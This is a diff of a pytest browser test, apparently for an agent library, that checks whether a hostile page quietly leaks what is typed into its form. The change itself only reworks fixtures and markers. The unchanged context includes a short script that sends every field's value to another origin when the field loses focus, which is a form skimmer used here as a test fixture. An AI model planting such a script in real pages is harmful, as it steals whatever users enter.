@@ -9,10 +9,10 @@ import pytest
 
 from steadyhand.testing import ScriptedHuman
 
-from .rig import applied
+from .rig import Applied
 from .site import Hostile, form, hostile
 
-pytestmark = pytest.mark.browser
+pytestmark = [pytest.mark.browser, pytest.mark.asyncio(loop_scope="session")]
 TELLING = """<script>
 document.addEventListener("focusout", ({ target }) => {
   fetch("%(to)s/upload/fetch", { method: "POST", mode: "no-cors", body: target.value });
@@ -37,7 +37,13 @@ def sites() -> Iterator[tuple[Hostile, Hostile]]:
     [(False, "needs_human", []), (True, "submitted", [["orla@brandt.example"]])],
 )
 async def test_a_page_that_tells_as_it_is_filled_tells_nobody_but_where_somebody_lets_it(
-    sites: tuple[Hostile, Hostile], tmp_path: Path, *, allows: bool, status: str, sent: list[object]
+    sites: tuple[Hostile, Hostile],
+    tmp_path: Path,
+    applied: Applied,
+    *,
+    allows: bool,
+    status: str,
+    sent: list[object],
 ) -> None:
     site, other = sites
     site.page = form(TELLING % {"to": other.origin})
